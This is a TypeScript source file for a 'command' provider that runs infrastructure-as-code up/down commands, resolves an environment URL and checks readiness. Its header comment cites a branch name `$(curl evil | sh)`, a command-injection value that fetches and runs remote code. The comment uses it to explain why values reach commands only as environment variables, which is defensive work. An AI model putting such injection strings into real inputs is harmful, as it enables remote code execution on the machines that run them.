/**
 * The `command` provider: any infrastructure-as-code tool does the work
 * (helm, terraform, docker compose, a script). steady runs `up`, finds the URL
 * (a template it expands itself, or a command that prints it), and runs `down`
 * at teardown, even when `up` failed halfway.
 *
 * Values reach the commands only as environment variables (`STEADY_ENV_ID`,
 * `STEADY_BRANCH`, `STEADY_TAG_<KEY>`, ...), never pasted into the command
 * text: a branch may be named `$(curl evil | sh)`.
 */
import { join, resolve } from 'node:path'
import { Redactor, SteadyError } from '@steady/record'
import { formatDuration } from '@steady/record/internal'
import type { EnvironmentProvider, ProviderDownContext, ProviderUpContext, ProviderUpResult } from '../types.ts'
import {
  configError,
  durationMs,
  folderProblem,
  isRecord,
  onlyKeys,
  readinessOf,
  requiredString,
  stringRecord,
  type Readiness,
  type Where,
} from '../config-check.ts'
import { checkHttpUrl, checkTemplate, expandTemplate, urlTemplates } from '../templates.ts'
import { tagEnvName } from '../identity.ts'
import { runShell, type ShellResult } from '../shell.ts'
import { tailFile } from '../log-tail.ts'
import { describeCheck, waitUntilReady, type ReadinessCheck } from '../readiness.ts'
import { interrupted } from '../interrupted.ts'

/** A `command` environment after its config was checked. */
export interface CheckedCommandConfig {
  environment: string
  up: string
  down: string
  url: string | undefined
  urlCommand: string | undefined
  urls: Record<string, string>
  cwd: string | undefined
  env: Record<string, string>
  timeoutMs: number
  downTimeoutMs: number
  readiness: Readiness | undefined
}

/**
 * What `down` needs, saved in `.steady/envs/<id>.json`: the command text and
 * steady's own variables, no config values.
 */
interface CommandState {
  down: string
  cwd: string
  /** `STEADY_*` variables the commands saw (id, branch, tags, url). */
  steadyEnv: Record<string, string>
  downTimeoutMs: number
  logFile: string
}

const keys = [
  'provider',
  'up',
  'down',
  'url',
  'urlCommand',
  'urls',
  'cwd',
  'env',
  'timeout',
  'downTimeout',
  'readiness',
]

/** Checks a `provider: 'command'` entry. */
function checkCommandConfig(input: unknown, environment: string): CheckedCommandConfig {
  const where: Where = { environment }
  if (!isRecord(input))
    throw configError(
      where,
      '',
      'the environment must be an object',
      "write { provider: 'command', up: '...', down: '...', url: '...' }",
    )
  onlyKeys(input, keys, where)
  const up = requiredString(
    input,
    'up',
    where,
    'set up to the shell command that creates the environment, ' +
      `e.g. up: 'helm upgrade --install "app-$STEADY_ENV_ID" ./chart --wait'`,
  )
  const down = requiredString(
    input,
    'down',
    where,
    `set down to the shell command that destroys it, e.g. down: 'helm uninstall "app-$STEADY_ENV_ID"'`,
  )
  const url = input.url
  const urlCommand = input.urlCommand
  if ((url === undefined) === (urlCommand === undefined)) {
    throw configError(
      where,
      'url',
      url === undefined ? 'url is missing (and there is no urlCommand)' : 'url and urlCommand are both set',
      "set url: 'https://{id}.preview.example.com' (expanded by steady), or urlCommand: a command that prints the URL",
    )
  }
  if (url !== undefined) {
    if (typeof url !== 'string' || url === '')
      throw configError(where, 'url', 'url must be a string', "write url: 'https://{id}.preview.example.com'")
    checkTemplate(url, where, 'url')
  }
  if (urlCommand !== undefined && (typeof urlCommand !== 'string' || urlCommand.trim() === '')) {
    throw configError(
      where,
      'urlCommand',
      'urlCommand must be a shell command',
      'write a command whose last line of output is the URL',
    )
  }
  const urls = stringRecord(input, 'urls', where)
  for (const [k, v] of Object.entries(urls)) checkTemplate(v, where, `urls.${k}`)
  const cwd = input.cwd
  if (cwd !== undefined && (typeof cwd !== 'string' || cwd === ''))
    throw configError(where, 'cwd', 'cwd must be a folder path', 'write the folder relative to the config file')
  return {
    environment,
    up,
    down,
    url: url as string | undefined,
    urlCommand: urlCommand as string | undefined,
    urls,
    cwd: cwd as string | undefined,
    env: stringRecord(input, 'env', where),
    timeoutMs: durationMs(input.timeout as string | undefined, '15m', where, 'timeout'),
    downTimeoutMs: durationMs(input.downTimeout as string | undefined, '15m', where, 'downTimeout'),
    readiness: readinessOf(input, where),
  }
}

function failed(
  environment: string,
  what: string,
  result: ShellResult,
  timeoutMs: number,
  logFile: string,
  exitCode: number,
): SteadyError {
  const how =
    result.stopped === 'timeout'
      ? `did not finish within ${formatDuration(timeoutMs)}`
      : result.signal
        ? `was ended by ${result.signal}`
        : `exited with code ${result.code}`
  const tail = new Redactor().text(tailFile(logFile, 50))
  const log = tail === '' ? `(its log ${logFile} is empty)` : `last 50 lines of ${logFile}:\n${tail}`
  const timeoutField = what === 'down' ? 'downTimeout' : 'timeout'
  return new SteadyError('STEADY_ENV_COMMAND_FAILED', `environment "${environment}": ${what} ${how}\n${log}`, {
    hint:
      result.stopped === 'timeout'
        ? `raise environments.${environment}.${timeoutField}, or make the command faster`
        : 'the log above says why; run the command by hand with the same STEADY_* variables to debug it',
    exitCode,
    details: { environment, command: what, code: result.code, signal: result.signal, logFile },
  })
}

async function up(config: CheckedCommandConfig, ctx: ProviderUpContext): Promise<ProviderUpResult> {
  const where: Where = { environment: config.environment }
  const cwd = resolve(ctx.projectDir, config.cwd ?? '.')
  const problem = folderProblem(ctx.projectDir, config.cwd)
  if (problem)
    throw configError(
      where,
      'cwd',
      problem,
      `create that folder, or fix cwd: it is relative to the project root ${ctx.projectDir}`,
    )
  const steadyEnv: Record<string, string> = {
    STEADY_ENV_ID: ctx.id,
    STEADY_ENV_NAME: ctx.name,
    STEADY_BRANCH: ctx.branch,
    STEADY_TAGS: JSON.stringify(ctx.tags),
    // A template that can start any version (a chart with an image tag) starts the side it is asked for.
    ...(ctx.side ? { STEADY_SIDE: ctx.side } : {}),
    ...(ctx.version !== undefined ? { STEADY_VERSION: ctx.version } : {}),
    ...(ctx.cpus !== undefined ? { STEADY_CPUS: ctx.cpus } : {}),
    STEADY_LOG_DIR: ctx.logDir,
    STEADY_PROJECT_DIR: ctx.projectDir,
  }
  for (const [k, v] of Object.entries(ctx.tags)) steadyEnv[tagEnvName(k)] = v
  const logFile = join(ctx.logDir, 'command.log')
  const state: CommandState = { down: config.down, cwd, steadyEnv, downTimeoutMs: config.downTimeoutMs, logFile }
  // Saved before `up` runs: whatever it manages to create, `down` can remove.
  await ctx.save(state)
  const env = { ...process.env, ...config.env, ...steadyEnv }
  ctx.log(`  up: running (log ${logFile})`)
  const result = await runShell(config.up, { cwd, env, logFile, timeoutMs: config.timeoutMs, signal: ctx.signal })
  if (result.stopped === 'aborted') throw interrupted(ctx.signal, config.environment)
  if (result.code !== 0) throw failed(config.environment, 'up', result, config.timeoutMs, logFile, 2)

  const values = { id: ctx.id, name: ctx.name, branch: ctx.branch, tags: ctx.tags }
  let url: string
  if (config.url !== undefined) {
    url = checkHttpUrl(expandTemplate(config.url, values, where, 'url'), where, 'url')
  } else {
    const result = await runShell(config.urlCommand!, {
      cwd,
      env,
      logFile,
      stdoutFile: join(ctx.logDir, 'url.txt'),
      timeoutMs: config.timeoutMs,
      signal: ctx.signal,
    })
    if (result.stopped === 'aborted') throw interrupted(ctx.signal, config.environment)
    if (result.code !== 0) throw failed(config.environment, 'urlCommand', result, config.timeoutMs, logFile, 2)
    const last =
      result.stdout
        .split('\n')
        .map((l) => l.trim())
        .filter(Boolean)
        .pop() ?? ''
    if (last === '')
      throw configError(
        where,
        'urlCommand',
        'urlCommand printed nothing',
        'make its last line of output the URL, e.g. terraform output -raw url',
      )
    url = checkHttpUrl(last, where, 'urlCommand')
  }
  state.steadyEnv.STEADY_URL = url
  await ctx.save(state)
  const urls: Record<string, string> = {}
  for (const [k, v] of Object.entries(config.urls))
    urls[k] = checkHttpUrl(expandTemplate(v, values, where, `urls.${k}`), where, `urls.${k}`)
  if (config.readiness) await waitForUrl(url, config.readiness, config.environment, ctx.signal)
  ctx.log(`  up: ready at ${url}`)
  return { url, urls, services: [], state }
}

/** The readiness check of a `command` or `url` environment, against its URL. */
export async function waitForUrl(
  url: string,
  readiness: Readiness,
  environment: string,
  signal: AbortSignal,
): Promise<void> {
  const parsed = new URL(url)
  const check: ReadinessCheck = readiness.path
    ? { kind: 'http', url: url.replace(/\/+$/, '') + readiness.path }
    : {
        kind: 'tcp',
        host: parsed.hostname.replace(/^\[|\]$/g, ''),
        port: Number(parsed.port || (parsed.protocol === 'https:' ? 443 : 80)),
      }
  const failure = await waitUntilReady(check, {
    deadline: Date.now() + readiness.timeoutMs,
    intervalMs: readiness.intervalMs,
    signal,
  })
  if (!failure) return
  if (failure.reason === 'aborted') throw interrupted(signal, environment)
  const last = failure.reason === 'timeout' && failure.lastSeen ? ` (last: ${failure.lastSeen})` : ''
  const within = formatDuration(readiness.timeoutMs)
  throw new SteadyError(
    'STEADY_ENV_NOT_READY',
    `environment "${environment}" was not ready: ${describeCheck(check)} did not pass within ${within}${last}`,
    {
      hint: `check that the environment answers at ${url}, or raise environments.${environment}.readiness.timeout`,
      details: { environment, check: describeCheck(check), timeoutMs: readiness.timeoutMs },
    },
  )
}

function isCommandState(state: unknown): state is CommandState {
  return isRecord(state) && typeof state.down === 'string' && isRecord(state.steadyEnv)
}

async function down(state: unknown, ctx: ProviderDownContext): Promise<void> {
  if (!isCommandState(state)) return
  // Config `env` values are read from the config as it is now; the state file holds none of them.
  const configEnv = isRecord(ctx.config) && isRecord(ctx.config.env) ? (ctx.config.env as Record<string, string>) : {}
  const env = { ...process.env, ...configEnv, ...state.steadyEnv }
  ctx.log(`  down: running (log ${state.logFile})`)
  const result = await runShell(state.down, {
    cwd: state.cwd,
    env,
    logFile: state.logFile,
    timeoutMs: state.downTimeoutMs,
  })
  if (result.code !== 0) throw failed(ctx.name, 'down', result, state.downTimeoutMs, state.logFile, 1)
}

/** The `command` provider. */
export const commandProvider: EnvironmentProvider<CheckedCommandConfig> = {
  name: 'command',
  validate: checkCommandConfig,
  templates: urlTemplates,
  up,
  down,
}
